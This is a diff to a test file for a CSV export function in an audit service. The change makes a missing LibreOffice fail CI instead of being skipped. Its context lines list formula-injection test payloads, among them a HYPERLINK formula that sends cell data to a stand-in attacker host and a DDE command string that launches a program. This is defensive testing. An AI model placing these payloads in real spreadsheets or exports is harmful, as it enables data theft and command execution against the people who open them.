@@ -11,6 +11,8 @@ import { csvString } from '../../../src-main/services/audit/csv.ts';
 
 const PAYLOADS = ['=1+1', '=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+2', '-3+4', '@SUM(1,2)', '=cmd|\' /C calc\'!A0', '\t=1+1', '\r=2+2', '\n=3+3', "'=4+4"];
 const soffice = spawnSync('soffice', ['--version'], { encoding: 'utf8' });
+// CI installs it (.ci/run), so there a missing soffice is a failure, not a skip
+if (soffice.status !== 0 && process.env.CI === 'true') throw new Error('LibreOffice (soffice) is required in CI: apt-get install libreoffice-calc-nogui');
 const skip = soffice.status !== 0 ? 'LibreOffice (soffice) is not installed: apt-get install libreoffice-calc-nogui' : false;
 
 function toSheetXml(dir: string, name: string, csv: string): { sheet: string; strings: string } {
